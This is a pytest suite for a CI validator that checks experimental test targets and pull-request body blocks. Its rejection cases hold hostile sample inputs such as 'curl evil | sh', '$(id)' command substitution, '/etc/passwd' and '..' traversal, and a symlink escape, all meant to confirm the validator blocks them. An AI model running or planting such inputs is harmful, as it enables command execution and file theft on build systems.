"""The scope validator: every rule, every bad input, both entry points, the CLI."""

from __future__ import annotations

import importlib
import os
import sys
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from . import REPO, SCRIPTS, load_script, run_script

SCRIPT = SCRIPTS / "experimental_test_scope.py"
TEMPLATE = REPO / ".github" / "pull_request_template.md"

ets = load_script("experimental_test_scope")
scope_targets = importlib.import_module("scope.targets")  # the script's part, loaded by it
ScopeError = ets.ScopeError


def errors_of(func, *args) -> str:  # type: ignore[no-untyped-def]
    with pytest.raises(ScopeError) as info:
        func(*args)
    return str(info.value)


def block(*lines: str, fence: str = "```") -> str:
    return "\n".join([f"{fence}experimental-tests", *lines, fence])


# --------------------------------------------------------------------------------------------
# Targets


@pytest.mark.parametrize(
    "text, expected",
    [
        ("tests/gemm/test_x.py", ["tests/gemm/test_x.py"]),
        ("tests/", ["tests/"]),
        ("tests", ["tests"]),
        ("tests/experimental/", ["tests/experimental/"]),
        ("tests/a.py::test_b", ["tests/a.py::test_b"]),
        ("tests/a.py::TestA::test_b", ["tests/a.py::TestA::test_b"]),
        (
            "  tests/a.py\ttests/b.py\n tests/c-d_e.py ",
            ["tests/a.py", "tests/b.py", "tests/c-d_e.py"],
        ),
        ("tests/a.py tests/b.py tests/a.py", ["tests/a.py", "tests/b.py"]),
        ("tests/sub/ tests/sub", ["tests/sub/"]),
        ("tests/v1.2/test_x.py", ["tests/v1.2/test_x.py"]),
    ],
)
def test_targets_accepted(text: str, expected: list[str]) -> None:
    assert ets.parse_targets(text) == expected


@pytest.mark.parametrize(
    "text, rule",
    [
        ("", "no targets given"),
        ("   \t\n", "no targets given"),
        ("-k", "starts with '-'"),
        ("--collect-only", "starts with '-'"),
        ("-ptests.evil", "starts with '-'"),
        ("/etc/passwd", "absolute path"),
        ("/work/main/tests/a.py", "absolute path"),
        ("tests/../etc/passwd", "contains '..'"),
        ("tests/experimental/..", "contains '..'"),
        ("tests/a..py", "contains '..'"),
        ("tests//a.py", "empty path component"),
        ("tests/./a.py", "'.' path component"),
        ("./tests/a.py", "not under tests/"),
        ("testsuite/a.py", "not under tests/"),
        ("benchmarks/bench.py", "not under tests/"),
        ("please", "not under tests/"),
        ("tests/a.py;rm", "shell metacharacter ';'"),
        ("tests/a.py&&id", "shell metacharacter '&'"),
        ("tests/a.py|sh", "shell metacharacter '|'"),
        ("tests/a.py>out", "shell metacharacter '>'"),
        ("tests/a.py<in", "shell metacharacter '<'"),
        ("tests/$HOME", "shell metacharacter '$'"),
        ("tests/${X}", "shell metacharacter"),
        ("tests/a#b.py", "shell metacharacter '#'"),
        ("tests/~/a.py", "shell metacharacter '~'"),
        ("tests/a\\b.py", "shell metacharacter '\\\\'"),
        ("tests/$(id).py", "command substitution '$('"),
        ("`tests/a.py`", "backtick"),
        ("tests/`id`.py", "backtick"),
        ("'tests/a.py'", "quote"),
        ('"tests/a.py"', "quote"),
        ("tests/*.py", "glob character '*'"),
        ("tests/test_?.py", "glob character '?'"),
        ("tests/a.py::test_x[1-2]", "glob character"),
        ("tests/a\u00a0b.py", "whitespace inside the target"),
        ("tests/a\u2003b.py", "whitespace inside the target"),
        ("tests/a\u200bb.py", "outside [A-Za-z0-9_./-]"),
        ("tests/é.py", "outside [A-Za-z0-9_./-]"),
        ("tests/ａ.py", "outside [A-Za-z0-9_./-]"),
        ("tests/a\x00.py", "outside [A-Za-z0-9_./-]"),
        ("tests/a\x1b[31m.py", "outside [A-Za-z0-9_./-]"),
        ("tests/a,b.py", "outside [A-Za-z0-9_./-]"),
        ("tests/a=b.py", "outside [A-Za-z0-9_./-]"),
        ("tests/a::test_b", "only allowed after a .py file"),
        ("tests/a.py:test_b", "':' outside a '::' test name"),
        ("tests/a.py::", "test name ''"),
        ("tests/a.py::1test", "test name '1test'"),
        ("tests/a.py:::test", "test name ':test'"),
    ],
)
def test_targets_rejected_with_named_rule(text: str, rule: str) -> None:
    message = errors_of(ets.parse_targets, text)
    assert rule in message
    if text.strip():
        assert "target " in message  # names the target


# --------------------------------------------------------------------------------------------
# Scopes: conformance:API[:BACKEND] (issue 43 item 22)


@pytest.mark.parametrize("root", [ets.TARGETS_ROOT, ets.BODY_ROOT])
@pytest.mark.parametrize(
    "scope", ["conformance:rmsnorm:tworow", "conformance:mm", "conformance:fused_add_rmsnorm:api"]
)
def test_a_conformance_scope_is_a_target_under_either_root(root: str, scope: str) -> None:
    assert ets.validate_targets([scope], root) == [scope]
    if root == ets.BODY_ROOT:
        assert ets.parse_body(block(scope, "tests/experimental/test_a.py")) == [
            scope,
            "tests/experimental/test_a.py",
        ]


@pytest.mark.parametrize(
    "scope",
    [
        "conformance:",
        "conformance:rms-norm",
        "conformance:a:b:c",
        "conformance:rmsnorm:",
        "conformance::triton",
        "conformance:1mm",
        "conformance:normé",
        "conformance:mm;id",
        "conformance:mm:$(id)",
        "conformance:mm:triton[cpu]",
        "conformance:mm -k x",
        "conformance:tests/test_conformance.py",
    ],
)
def test_a_malformed_scope_is_rejected_saying_the_form(scope: str) -> None:
    message = errors_of(ets.validate_targets, scope.split(), ets.TARGETS_ROOT)
    assert "conformance:API or conformance:API:BACKEND" in message or "not under" in message


def test_a_scope_becomes_its_option_and_the_conformance_tests_once(
    tree: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    targets = "conformance:rmsnorm:tworow tests/experimental/test_a.py conformance:mm"
    code, out, _ = run_main(
        capsys, "--targets", targets, "--check-exists", str(tree), "--pytest-args"
    )
    assert code == 0
    assert out.splitlines() == [
        "--conformance-scope=rmsnorm:tworow",
        "--conformance-scope=mm",
        "tests/experimental/test_a.py",
        *ets.CONFORMANCE_TESTS,
    ]
    assert ets.pytest_arguments(["tests/a.py"]) == ["tests/a.py"]  # no scope: paths only


def test_every_rejected_target_is_reported() -> None:
    message = errors_of(ets.parse_targets, "tests/ok.py tests/a;b.py /abs tests/../x")
    lines = message.splitlines()
    assert len(lines) == 3
    assert "'tests/a;b.py'" in lines[0] and "'/abs'" in lines[1] and "'tests/../x'" in lines[2]


def test_seed_injection_example_is_rejected() -> None:
    # A prefix check alone would accept this: it starts with the root and has no '..'.
    message = errors_of(ets.parse_targets, "tests/experimental/x.py; curl evil | sh")
    assert "shell metacharacter ';'" in message and "'|'" in message


def test_root_is_configurable() -> None:
    assert ets.validate_targets(["tests/experimental/a.py"], ets.BODY_ROOT)
    assert "not under tests/experimental/" in errors_of(
        ets.validate_targets, ["tests/a.py"], ets.BODY_ROOT
    )
    assert "not under tests/experimental/" in errors_of(
        ets.validate_targets, ["tests/experimentalx/a.py"], ets.BODY_ROOT
    )


# --------------------------------------------------------------------------------------------
# PR body


def test_body_block_parsed_comments_stripped() -> None:
    body = "\n".join(
        [
            "## Experimental Track",
            "- [x] this PR touches the experimental track",
            "",
            "```experimental-tests",
            "# a comment",
            "tests/experimental/test_a.py   # trailing comment",
            "",
            "  tests/experimental/feature/  ",
            "tests/experimental/test_a.py",
            "```",
            "after",
        ]
    )
    assert ets.parse_body(body) == ["tests/experimental/test_a.py", "tests/experimental/feature/"]


@pytest.mark.parametrize(
    "body",
    [
        block("tests/experimental/test_a.py").replace("\n", "\r\n"),
        block("tests/experimental/test_a.py", fence="~~~"),
        block("tests/experimental/test_a.py", fence="````"),
        "```  experimental-tests  \ntests/experimental/test_a.py\n```",
        "   ```experimental-tests\ntests/experimental/test_a.py\n   ```",
        # An example block inside a longer fence, a quote or an HTML comment is not a block.
        "````markdown\n```experimental-tests\ntests/experimental/other.py\n```\n````\n"
        + block("tests/experimental/test_a.py"),
        "> ```experimental-tests\n> tests/experimental/other.py\n> ```\n\n"
        + block("tests/experimental/test_a.py"),
        "<!--\n```experimental-tests\ntests/experimental/other.py\n```\n-->\n"
        + block("tests/experimental/test_a.py"),
    ],
)
def test_body_block_variants(body: str) -> None:
    assert ets.parse_body(body) == ["tests/experimental/test_a.py"]


@pytest.mark.parametrize(
    "body, rule",
    [
        ("", "no ```experimental-tests block found"),
        ("just text\ntests/experimental/test_a.py", "no ```experimental-tests block found"),
        ("```\ntests/experimental/test_a.py\n```", "no ```experimental-tests block found"),
        ("```python\ntests/experimental/test_a.py\n```", "no ```experimental-tests block"),
        ("```Experimental-Tests\ntests/experimental/a.py\n```", "no ```experimental-tests"),
        ("`experimental-tests` tests/experimental/a.py", "no ```experimental-tests block"),
        (block("tests/experimental/a.py") + "\n" + block("tests/experimental/b.py"), "2 ```"),
        (block(), "is empty once # comments are removed"),
        (block("# tests/experimental/a.py", "", "   # x"), "is empty once # comments"),
        ("```experimental-tests\ntests/experimental/a.py\n", "is never closed"),
        (block("tests/experimental/a.py tests/experimental/b.py"), "whitespace inside"),
        (block("tests/gemm/test_x.py"), "not under tests/experimental/"),
        (block("tests/experimental/a.py; curl evil | sh"), "shell metacharacter"),
        (block("`tests/experimental/a.py`"), "backtick"),
        (block("-k tests/experimental"), "whitespace inside"),
        (block("--lf"), "starts with '-'"),
        # A shorter fence does not close a longer one: it is read as a (bad) target.
        ("````experimental-tests\ntests/experimental/a.py\n```\n````", "target '```'"),
    ],
)
def test_body_rejected(body: str, rule: str) -> None:
    message = errors_of(ets.parse_body, body)
    assert rule in message
    if "block" in rule or "empty" in rule:
        assert "tests/experimental/" in message  # says how to fix the body


def test_shipped_template_fails_loudly(capsys: pytest.CaptureFixture[str]) -> None:
    if not TEMPLATE.exists():
        pytest.skip("PR template not written yet")
    code = ets.main(["--body-file", str(TEMPLATE), "--test-path"])
    out, err = capsys.readouterr()
    assert code == 2
    assert out == ""
    assert "is empty once # comments are removed" in err


def test_template_with_an_example_uncommented_parses() -> None:
    if not TEMPLATE.exists():
        pytest.skip("PR template not written yet")
    text = TEMPLATE.read_text(encoding="utf-8")
    lines = text.splitlines()
    for i, line in enumerate(lines):
        if line.lstrip().startswith("# tests/experimental/"):
            lines[i] = line.split("# ", 1)[1]
            break
    else:
        pytest.fail("template has no commented example under tests/experimental/")
    targets = ets.parse_body("\n".join(lines))
    assert len(targets) == 1 and targets[0].startswith("tests/experimental/")


# --------------------------------------------------------------------------------------------
# Chunks


def test_chunks_limit_and_boundaries() -> None:
    exactly = "tests/" + "a" * 134
    assert len(exactly) == 140
    assert ets.chunk_targets([exactly]) == [exactly]
    assert "longer than the 140-character" in errors_of(ets.chunk_targets, [exactly + "b"])
    a, b = "tests/" + "a" * 63, "tests/" + "b" * 64  # 69 + 1 + 70 = 140: fits
    assert ets.chunk_targets([a, b]) == [f"{a} {b}"]
    b2 = b + "c"
    assert ets.chunk_targets([a, b2]) == [a, b2]
    assert ets.chunk_targets([]) == []


def test_chunk_error_names_target_only_when_too_long() -> None:
    long = "tests/" + "x" * 200
    message = errors_of(ets.chunk_targets, ["tests/a.py", long])
    assert repr(long) in message and "'tests/a.py'" not in message


# --------------------------------------------------------------------------------------------
# Existence


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    (tmp_path / "tests" / "experimental" / "feature").mkdir(parents=True)
    (tmp_path / "tests" / "experimental" / "test_a.py").write_text("def test_x(): pass\n")
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "test_evil.py").write_text("")
    return tmp_path


def test_check_exists(tree: Path) -> None:
    ets.check_exists(
        ["tests/experimental/test_a.py", "tests/experimental/feature/", "tests/experimental"],
        tree,
        ets.BODY_ROOT,
    )
    ets.check_exists(["tests/experimental/test_a.py::test_x"], tree, ets.BODY_ROOT)
    message = errors_of(
        ets.check_exists,
        ["tests/experimental/test_a.py", "tests/experimental/test_typo.py"],
        tree,
        ets.BODY_ROOT,
    )
    assert "'tests/experimental/test_typo.py': does not exist" in message
    assert "test_a.py'" not in message


@pytest.mark.skipif(os.name != "posix", reason="symlinks")
def test_check_exists_rejects_symlink_escape(tree: Path) -> None:
    (tree / "tests" / "experimental" / "link").symlink_to(tree / "outside")
    message = errors_of(
        ets.check_exists, ["tests/experimental/link/test_evil.py"], tree, ets.BODY_ROOT
    )
    assert "resolves outside tests/experimental/" in message


# --------------------------------------------------------------------------------------------
# CLI


def run_main(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = ets.main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def test_cli_targets_modes(capsys: pytest.CaptureFixture[str]) -> None:
    assert run_main(capsys, "--targets", "tests/a.py tests/b.py", "--test-path") == (
        0,
        "tests/a.py tests/b.py\n",
        "",
    )
    many = " ".join(f"tests/experimental/feature_{i:02d}/test_case_{i:02d}.py" for i in range(9))
    code, out, _ = run_main(capsys, "--targets", many, "--chunks")
    assert code == 0
    lines = out.splitlines()
    assert len(lines) > 1 and all(len(line) <= 140 for line in lines)
    assert " ".join(lines) == many


def test_cli_body_file(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    body = tmp_path / "body.md"
    body.write_text("text\n" + block("tests/experimental/test_a.py") + "\n")
    assert run_main(capsys, "--body-file", str(body), "--test-path")[:2] == (
        0,
        "tests/experimental/test_a.py\n",
    )
    code, out, err = run_main(capsys, "--body-file", str(tmp_path / "missing.md"))
    assert code == 2 and "cannot read --body-file" in err


def test_cli_check_exists(tree: Path, capsys: pytest.CaptureFixture[str]) -> None:
    ok = run_main(capsys, "--targets", "tests/experimental/test_a.py", "--check-exists", str(tree))
    assert ok[0] == 0
    code, out, err = run_main(
        capsys, "--targets", "tests/experimental/nope.py", "--check-exists", str(tree)
    )
    assert (code, out) == (2, "") and "does not exist" in err


@pytest.mark.parametrize(
    ("changed", "required"),
    [
        (["flashinfer/experimental/splitk_gemm/kernel.py"], True),
        (["README.md", "tests/experimental/test_splitk_gemm.py"], True),
        (["flashinfer/experimental/README.md"], True),
        (["flashinfer/norm.py", "tests/test_norm.py", "docs/experimental.rst"], False),
        (["flashinfer/experimentalish.py", "tests/experimental_notes.md"], False),
        ([], False),
    ],
)
def test_cli_block_required_only_when_experimental_paths_change(
    tree: Path, capsys: pytest.CaptureFixture[str], changed: list[str], required: bool
) -> None:
    """The pull request workflow's call: without an experimental change any body passes;
    with one, the block must be there, valid, and name paths that exist."""
    listing = tree / "changed.txt"
    listing.write_text("".join(f"{p}\n" for p in changed))
    cases = {
        "no block": "Just a description.\n",
        "template": TEMPLATE.read_text(encoding="utf-8"),
        "missing path": block("tests/experimental/test_typo.py"),
    }
    for name, text in cases.items():
        body = tree / "body.md"
        body.write_text(text)
        argv = ("--body-file", str(body), "--changed-files", str(listing))
        code, out, err = run_main(capsys, *argv, "--check-exists", str(tree), "--test-path")
        if required:
            assert code == 2, (name, out, err)
            assert "experimental code changed (" in err
        else:
            assert code == 0, (name, out, err)
            assert "block is not required" in out
    body.write_text(block("tests/experimental/test_a.py"))
    code, out, err = run_main(
        capsys, "--body-file", str(body), "--changed-files", str(listing),
        "--check-exists", str(tree), "--test-path",
    )  # fmt: skip
    assert code == 0 and out.splitlines()[-1] == (
        "tests/experimental/test_a.py"
        if required
        else "no change under flashinfer/"
        "experimental/ or tests/experimental/: the ```experimental-tests block is not required"
    )


def test_cli_changed_files_needs_a_body_and_a_readable_list(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, _, err = run_main(capsys, "--targets", "tests/a.py", "--changed-files", "x.txt")
    assert code == 2 and "--changed-files goes with --body-file" in err
    body = tmp_path / "body.md"
    body.write_text(block("tests/experimental/test_a.py"))
    missing = str(tmp_path / "missing.txt")
    code, _, err = run_main(capsys, "--body-file", str(body), "--changed-files", missing)
    assert code == 2 and "cannot read --changed-files" in err


def test_cli_exit_codes(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    code, out, err = run_main(capsys, "--targets", "tests/a.py; id")
    assert (code, out) == (2, "") and "error: target 'tests/a.py;'" in err
    assert run_main(capsys, "--chunks")[0] == 2  # usage error: no source
    assert run_main(capsys, "--targets", "tests/a.py", "--chunks", "--test-path")[0] == 2

    def boom(*_: object) -> None:
        raise RuntimeError("bug")

    monkeypatch.setattr(ets, "parse_targets", boom)
    code, out, err = run_main(capsys, "--targets", "tests/a.py")
    assert code == 1 and "internal error" in err


def test_selftest_in_process() -> None:
    assert ets.selftest() == []


def test_selftest_subprocess() -> None:
    proc = run_script("experimental_test_scope", "--selftest", cwd=REPO, timeout=60)
    assert proc.returncode == 0, proc.stderr
    assert "selftest: all cases pass" in proc.stdout


def test_subprocess_exit_code_invalid() -> None:
    proc = run_script(
        "experimental_test_scope", "--targets", "tests/$(id).py", "--test-path", timeout=60
    )
    assert proc.returncode == 2 and proc.stdout == ""
    assert "command substitution" in proc.stderr


def test_script_is_stdlib_only() -> None:
    """The script, and its parts in scope/ (which import each other), use nothing else."""
    for path in (SCRIPT, *sorted((SCRIPTS / "scope").glob("*.py"))):
        for line in path.read_text().splitlines():
            if line.startswith(("import ", "from ")) and "__future__" not in line:
                name = line.split()[1].split(".")[0]
                assert name in sys.stdlib_module_names or name in ("scope", ""), line


# --------------------------------------------------------------------------------------------
# Properties

ALLOWED = frozenset(scope_targets._PATH_CHARS) | {":"}
printable_junk = st.text(
    alphabet=st.sampled_from(
        list("abcXYZ019_-./:") + list(" \t;&|$`'\"*?[]()<>#~\\!{}\u00a0é\x00")
    ),
    max_size=30,
)
path_part = st.text(alphabet=st.sampled_from(list("abz09_-.")), min_size=1, max_size=12)


@settings(max_examples=400, deadline=None)
@given(st.lists(st.one_of(printable_junk, st.builds(lambda s: "tests/" + s, printable_junk))))
def test_property_accepted_targets_are_safe(tokens: list[str]) -> None:
    for root in (ets.TARGETS_ROOT, ets.BODY_ROOT):
        try:
            targets = ets.validate_targets(tokens, root)
        except ScopeError:
            continue
        for target in targets:
            assert not target.startswith("-")
            assert set(target) <= ALLOWED
            if target.startswith(ets.SCOPE_PREFIX):  # names, no path: an option's value
                (option,) = ets.pytest_arguments([target])[:1]
                assert option == "--conformance-scope=" + target.removeprefix(ets.SCOPE_PREFIX)
                continue
            path = target.partition("::")[0]
            assert path == root.rstrip("/") or path.startswith(root)
            # No escape: the normalised path stays under the root.
            normal = os.path.normpath(path)
            assert normal == root.rstrip("/") or normal.startswith(root)
            assert ".." not in path.split("/")


identifier = st.from_regex(r"[A-Za-z_][A-Za-z0-9_]{0,15}", fullmatch=True)
non_identifier = st.text(alphabet=st.sampled_from(list("a9_-.:/é $;[]")), max_size=8).filter(
    lambda s: not (s[:1].isascii() and (s[:1].isalpha() or s[:1] == "_") and s.isascii()
                   and s.replace("_", "a").isalnum())
)  # fmt: skip


@settings(max_examples=200, deadline=None)
@given(api=identifier, backend=st.none() | identifier, bad=non_identifier, bad_api=st.booleans())
def test_property_a_scope_is_accepted_exactly_when_its_names_are_identifiers(
    api: str, backend: str | None, bad: str, bad_api: bool
) -> None:
    good = ets.SCOPE_PREFIX + api + ("" if backend is None else ":" + backend)
    for root in (ets.TARGETS_ROOT, ets.BODY_ROOT):
        assert ets.validate_targets([good], root) == [good]
    assert ets.pytest_arguments([good]) == [
        "--conformance-scope=" + good.removeprefix(ets.SCOPE_PREFIX),
        *ets.CONFORMANCE_TESTS,
    ]
    broken = ets.SCOPE_PREFIX + (bad if bad_api else api + ":" + bad)
    assert ets.target_problems(broken, ets.TARGETS_ROOT)


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.builds(
            lambda parts: "tests/" + "/".join(parts), st.lists(path_part, min_size=1, max_size=12)
        ),
        min_size=1,
        max_size=30,
    )
)
def test_property_chunk_then_join_round_trips(targets: list[str]) -> None:
    targets = [t for t in targets if len(t) <= 140]
    if not targets:
        return
    chunks = ets.chunk_targets(targets)
    assert all(0 < len(c) <= 140 for c in chunks)
    assert " ".join(chunks).split(" ") == targets
    # Split only between targets: every chunk is a whole run of targets.
    assert [t for c in chunks for t in c.split(" ")] == targets


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.builds(
            lambda parts: "tests/" + "/".join(parts), st.lists(path_part, min_size=1, max_size=5)
        ),
        min_size=1,
        max_size=10,
    )
)
def test_property_body_and_targets_agree(targets: list[str]) -> None:
    """One definition of a safe target: the two entry points agree on the same paths."""
    exp = [t.replace("tests/", "tests/experimental/", 1) for t in targets]
    try:
        from_targets = ets.parse_targets(" ".join(exp))
    except ScopeError:
        with pytest.raises(ScopeError):
            ets.parse_body(block(*exp))
        return
    assert ets.parse_body(block(*exp)) == from_targets
